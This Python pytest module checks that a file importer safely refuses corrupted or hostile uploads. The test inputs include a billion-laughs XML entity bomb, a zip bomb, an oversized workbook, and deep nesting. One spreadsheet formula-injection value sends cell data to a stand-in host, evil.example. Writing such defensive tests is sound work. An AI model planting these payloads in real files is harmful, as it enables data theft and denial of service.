"""A spoilt copy of a file of every format: refused in clear words, its good rows in, nothing half in.

Each is taken in by a process of its own, beside a good file, and it is measured what memory that and the one
that reads for it take. What is in afterwards is compared with what the good rows alone would have brought.
"""

import io
import multiprocessing
import re
import resource
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, replace
from datetime import date
from functools import cache
from pathlib import Path

import openpyxl
import pytest
from databases import copied
from good_copies import GOOD, REAL, ROUTES, Copy
from needs import need

from bot.importers import run_any
from bot.store.catalogue_entries import KEPT, REFUSED

pytestmark = pytest.mark.whole_files

TODAY = date(2026, 11, 22)
MEGABYTE = 1_000_000
# Of each of the two processes: a good file takes a third of it at most, and what is packed is twice as large.
MOST_GROWTH = 150 * MEGABYTE
FORK = multiprocessing.get_context("fork")
TEXT = {"sheet", "json", "lines", "page", "calendar"}
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Open day")'


@dataclass(frozen=True)
class Spoilt:
    """How to spoil a copy, and what is to come of it.

    ``whole``: what the refusal of the file says. Else ``rows`` tells the refusals of rows (line, column,
    value, why), given the copy; all records but the last are good.
    """

    spoil: Callable[[Copy], dict[str, bytes]]
    media: frozenset[str] = frozenset(TEXT | {"xml"})
    whole: str | None = None
    rows: Callable[[Copy], list[tuple[int, str, str, str]]] | None = None


# --- what is done to them -------------------------------------------------------------------


def written(copy: Copy) -> bytes:
    return copy.write(copy.records)


def without_last(copy: Copy) -> bytes:
    return copy.write(copy.records[:-1])


def named(spoil: Callable[[Copy], bytes]) -> Callable[[Copy], dict[str, bytes]]:
    return lambda copy: {copy.name: spoil(copy)}


def cut(copy: Copy) -> bytes:
    content = written(copy)
    return content[: content.rindex(b"SUMMARY") + 5 if copy.format == "calendar" else len(content) * 9 // 10]


def cut_in_last_row(copy: Copy) -> bytes:
    return without_last(copy) + b'"broken o'


def cut_in_last_line(copy: Copy) -> bytes:
    return written(copy)[: len(without_last(copy)) + 50]


def cut_page(copy: Copy) -> bytes:
    content = written(copy)
    return content[: content.rindex(b'"name"')] + b"</script>"


def last_line(copy: Copy) -> int:
    """Return the line on which the last record begins, where nothing comes after it."""
    return without_last(copy).decode().count("\n") + 1


def told_line(copy: Copy) -> int:
    """Return the line that a sheet of records without line ends in them has its last record on."""
    return len(copy.records) + 1


def with_bad_byte(copy: Copy) -> bytes:
    content = written(copy)
    return content[: len(content) // 2] + b"\x81" + content[len(content) // 2 :]


def in_utf_16(copy: Copy) -> bytes:
    return written(copy).decode().encode("utf-16")


def with_formula(copy: Copy) -> bytes:
    *rows, last = copy.records
    return copy.write([*rows, last | {copy.words[0]: FORMULA}])


def with_endless_row(copy: Copy) -> bytes:
    endless = b'{"title": "' if copy.name.endswith(".jsonl") else b'"'
    return without_last(copy) + endless + b"x" * 30 * MEGABYTE + b'"\n'


def deep(copy: Copy) -> bytes:
    return b'{"a":' * 200_000


def laughing(copy: Copy) -> bytes:
    lol = "".join(f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10))
    content = re.sub(r"^<\?xml[^>]*\?>", "", written(copy).decode())
    declared = f'<!DOCTYPE lolz [<!ENTITY lol0 "lol">{lol}]>'
    return (declared + content.replace("<dc:title>", "<dc:title>&lol9;")).encode()


def laughing_later(copy: Copy) -> bytes:
    return written(copy).replace(b"<course>", b"<course>&lol9;", 1)


def nested(copy: Copy) -> bytes:
    return written(copy).replace(b"<course>", b"<course>" + b"<a>" * 5000, 1)


def with_events(count: int, padding: str = "") -> Callable[[Copy], bytes]:
    def write(copy: Copy) -> bytes:
        one = copy.records[0].replace("\r\nLOCATION", f"{padding}\r\nLOCATION")
        return copy.write([one.replace("UID:0", f"UID:{number}") for number in range(count)])

    return write


def repeating(copy: Copy) -> bytes:
    return written(copy).replace(b"SUMMARY:Open evening 5", b"SUMMARY:Open evening 5\r\nRRULE:FREQ=SECONDLY")


def nested_events(copy: Copy) -> bytes:
    begins, ends = b"BEGIN:VEVENT\r\n" * 5000, b"END:VEVENT\r\n" * 5000
    return written(copy).replace(b"END:VCALENDAR", begins + ends + b"END:VCALENDAR")


def zip_bomb(copy: Copy) -> dict[str, bytes]:
    return {"given.zip": zipped({copy.name: written(copy) + b"\n" * 300 * MEGABYTE})}


def zipped(files: dict[str, bytes]) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return file.getvalue()


def workbook(copy: Copy, change: Callable[[dict[str, bytes]], None] = lambda _: None) -> dict[str, bytes]:
    book, file = openpyxl.Workbook(), io.BytesIO()
    book.active.append(list(copy.records[0]))
    for row in copy.records:
        book.active.append([None if cell == "" else cell for cell in row.values()])
    book.save(file)
    parts = {part: zipfile.ZipFile(file).read(part) for part in zipfile.ZipFile(file).namelist()}
    change(parts)
    return {f"{Path(copy.name).stem}.xlsx": zipped(parts)}


SHEET = "xl/worksheets/sheet1.xml"


def cut_workbook(copy: Copy) -> dict[str, bytes]:
    return {name: content[: len(content) // 2] for name, content in workbook(copy).items()}


def formula_workbook(copy: Copy) -> dict[str, bytes]:
    return workbook(replace(copy, records=[*copy.records[:-1], copy.records[-1] | {copy.words[0]: "=#REF!"}]))


def bomb_workbook(copy: Copy) -> dict[str, bytes]:
    return workbook(copy, lambda parts: parts.update({"xl/media/a.png": b"0" * 300 * MEGABYTE}))


def laughing_workbook(copy: Copy) -> dict[str, bytes]:
    lol = b'<!DOCTYPE a [<!ENTITY b "bbbbbbbbbb"><!ENTITY c "&b;&b;&b;&b;">]>'
    return workbook(copy, lambda parts: parts.update({SHEET: lol + parts[SHEET].replace(b"<v>", b"<v>&c;")}))


ONE = frozenset
SPOILT = {
    "cut within a row": Spoilt(
        named(cut_in_last_row),
        ONE({"sheet"}),
        rows=lambda copy: [(last_line(copy), "", "", "breaks off within quotation marks")],
    ),
    "cut within a line": Spoilt(
        named(cut_in_last_line),
        ONE({"lines"}),
        rows=lambda copy: [
            (last_line(copy), "", written(copy).decode().split("\n")[-2][:50], "is no profile")
        ],
    ),
    "cut": Spoilt(
        named(cut),
        ONE({"json", "xml", "calendar"}),
        whole="is not JSON: |is not XML to its end, cut short|is cut short: VEVENT has no end",
    ),
    "cut within a script": Spoilt(
        named(cut_page), ONE({"page"}), rows=lambda _: [(1, "script", "", "script of JSON-LD cannot be read")]
    ),
    "a letter of no encoding": Spoilt(
        named(with_bad_byte), whole="is not text in UTF-8 or Windows-1252: save it as UTF-8"
    ),
    "UTF-16": Spoilt(named(in_utf_16), ONE(TEXT), whole="is saved as UTF-16: save it as CSV"),
    "formula cells": Spoilt(
        named(with_formula),
        ONE({"sheet"}),
        rows=lambda copy: [(told_line(copy), copy.words[1], FORMULA, "is a formula: write what it shows")],
    ),
    "a row without end": Spoilt(
        named(with_endless_row),
        ONE({"sheet", "lines"}),
        rows=lambda copy: [(last_line(copy), "", "", "field larger than field limit|is longer than 1000 kB")],
    ),
    "deep": Spoilt(named(deep), ONE({"json"}), whole="is not JSON: maximum recursion depth"),
    "billion laughs": Spoilt(named(laughing), ONE({"xml"}), whole="has a DOCTYPE, which can do harm"),
    "an entity of nobody": Spoilt(named(laughing_later), ONE({"xml"}), whole="undefined entity"),
    "deep elements": Spoilt(named(nested), ONE({"xml"}), whole="elements in elements more than 50 deep"),
    "50,000 events": Spoilt(
        named(with_events(50_000)), ONE({"calendar"}), whole="is larger than 2 MB: give it in parts"
    ),
    "2,001 events": Spoilt(
        named(with_events(2_001)), ONE({"calendar"}), whole="has more than 2,000 events: give it in parts"
    ),
    "an event each second": Spoilt(
        named(repeating),
        ONE({"calendar"}),
        rows=lambda copy: [(last_line(copy) - 1, "rrule", "FREQ=SECONDLY", "")],
    ),
    "events in events": Spoilt(
        named(nested_events), ONE({"calendar"}), whole="parts within parts, more than 5 deep"
    ),
    "a zip bomb": Spoilt(zip_bomb, whole="grows more than 100 times when it is unpacked"),
    "a workbook that is cut": Spoilt(
        cut_workbook, ONE({"sheet"}), whole="is not a workbook that can be read: save the sheet as CSV"
    ),
    "a workbook with a formula that nobody worked out": Spoilt(
        formula_workbook,
        ONE({"sheet"}),
        rows=lambda copy: [(told_line(copy), copy.words[1], "", "must be filled")],
    ),
    "a workbook that is a bomb": Spoilt(bomb_workbook, ONE({"sheet"}), whole="unpacks to more than 20 MB"),
    "a workbook that laughs": Spoilt(
        laughing_workbook, ONE({"sheet"}), whole="is not a workbook that can be read: save the sheet as CSV"
    ),
}
# What may be left blank, there, is no mistake: nobody can tell it from a formula without a value.
NOT_REQUIRED = "a workbook with a formula that nobody worked out", {"support", "postcodes"}

CASES = [
    pytest.param(good, spoilt, id=f"{good}: {spoilt}")
    for good, (medium, _) in GOOD.items()
    for spoilt, how in SPOILT.items()
    if medium in how.media and not (spoilt == NOT_REQUIRED[0] and good in NOT_REQUIRED[1])
]


@cache
def copy_of(name: str) -> Copy:
    need(REAL.is_dir(), "the real files of ../shared/data are not beside this checkout")
    return GOOD[name][1]()


# --- taking them in -------------------------------------------------------------------------


@pytest.fixture
def take(empty_database, tmp_path):
    """Take files in, with what they need beside them, in a process of its own.

    Returns the reports, what each feed then holds, and by how much the memory of the two processes grew.
    """

    def take(files: dict[str, bytes], beside: dict[str, str], name: str):
        folder = tmp_path / name / "in"
        folder.mkdir(parents=True)
        for each, content in files.items():
            (folder / each).write_bytes(content)
        for each, words in {**beside, **dict([ROUTES])}.items():
            (folder / each).write_text(words, encoding="utf-8")
        reader, writer = FORK.Pipe(duplex=False)
        child = FORK.Process(target=_take, args=(empty_database, folder, writer))
        child.start()
        writer.close()
        try:
            return reader.recv()
        finally:
            child.join()

    return take


@pytest.fixture(scope="module")
def expected_of():
    """What the good rows alone bring, by copy, and whether none of them counts."""
    return {}


def _take(database, folder, writer):
    before = [resource.getrusage(resource.RUSAGE_SELF).ru_maxrss] * 2
    with pytest.MonkeyPatch.context() as patch, copied(database, folder.parent) as store:
        patch.setattr("bot.reference.places.towns", dict)
        reports = run_any(store, [folder], TODAY)
        with store.open() as s:
            feeds = {feed.name: feed.holds for feed in s.imports.feeds(1000)}
    after = [resource.getrusage(who).ru_maxrss for who in (resource.RUSAGE_SELF, resource.RUSAGE_CHILDREN)]
    writer.send((reports, feeds, [(b - a) * 1024 for a, b in zip(before, after, strict=True)]))


@pytest.mark.parametrize(("good", "spoilt"), CASES)
def test_a_spoilt_copy_is_refused_and_what_is_good_is_in(take, expected_of, good, spoilt):
    copy, how = copy_of(good), SPOILT[spoilt]
    files = how.spoil(copy)
    reports, feeds, grew = take(files, copy.beside, "spoilt")
    good_rows = {} if how.whole else {copy.name: without_last(copy)}
    if (good, bool(how.whole)) not in expected_of:
        _, expected_of[good, bool(how.whole)], _ = take(good_rows, copy.beside, "good")
    (report,) = [each for each in reports if each.file in files]
    if how.whole:
        assert (report.state, report.rows, report.tallies) == (REFUSED, 0, {})
        assert re.search(how.whole, report.why), report.why
        assert next(iter(files)) in report.why
    else:
        told = [(each.line, each.column, each.value) for each in report.refusals]
        assert report.state == KEPT
        assert told == [(line, column, value[:120]) for line, column, value, _ in how.rows(copy)]
        assert all(
            re.search(why, each.why) for each, (*_, why) in zip(report.refusals, how.rows(copy), strict=True)
        )
        assert report.rows == sum(report.outcomes.values()) + report.refused
    assert feeds == expected_of[good, bool(how.whole)]
    assert any(each.file == ROUTES[0] and each.count("added") == 1 for each in reports)
    assert max(grew) < MOST_GROWTH, f"{grew} bytes"
